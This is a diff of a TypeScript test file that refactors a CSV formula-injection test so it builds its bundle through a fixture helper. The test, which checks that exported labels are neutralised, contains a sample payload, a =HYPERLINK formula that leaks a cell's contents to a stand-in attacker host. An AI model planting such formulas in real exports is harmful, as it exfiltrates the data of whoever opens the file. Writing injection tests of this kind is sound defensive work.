@@ -11,8 +11,7 @@ import { writeFileSync } from "node:fs";
 import { createServer, request as httpRequest, type IncomingMessage, type Server } from "node:http";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import type { BundleInput } from "../../app/domain/bundle.ts";
-import { fixtureBundle } from "../fixtures/bundle-fixture.ts";
+import { fixtureAbBundle } from "../fixtures/bundle-fixture.ts";
 import { startAppServer, type AppServer } from "../helpers/app-server.ts";
 import { launchChromium, runBrowserTests, type watchingCsp } from "../helpers/browser.ts";
 import { runCli } from "../helpers/cli.ts";
@@ -285,10 +284,8 @@ describe("logins", () => {
 describe("CSV formula injection", () => {
   it("a simulator backbone =HYPERLINK(…) from an imported bundle reaches labels.csv neutralised", async () => {
     const evilBackbone = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
-    const base = fixtureBundle();
-    const level = (id: string, value: number) => ({ ...base.runs[1], id, simulator_backbone: evilBackbone, outcome: "budget" as const, turns: base.runs[1].turns.map((t) => ({ ...t, signal: "continue" as const })), config: { reactiveness: { BUY: value, SELL: 0.5 }, turn_budget: 2 }, seed: null });
-    const pair = { id: "csv:ab", scenario_id: "fx-1", run_a_id: "csv:a", run_b_id: "csv:b", target_party: "BUY", level_a: 0, level_b: 1, opponent_level: 0.5 };
-    const bundle = { ...base, runs: [...base.runs, level("csv:a", 0), level("csv:b", 1)], ab_pairs: [pair] } satisfies BundleInput;
+    const bundle = fixtureAbBundle({ pairId: "csv:ab", runIds: ["csv:a", "csv:b"], simulator: evilBackbone });
+    const [pair] = bundle.ab_pairs;
     const tmp = tempDir("socrates-csv-");
     try {
       const file = join(tmp.dir, "evil.json");
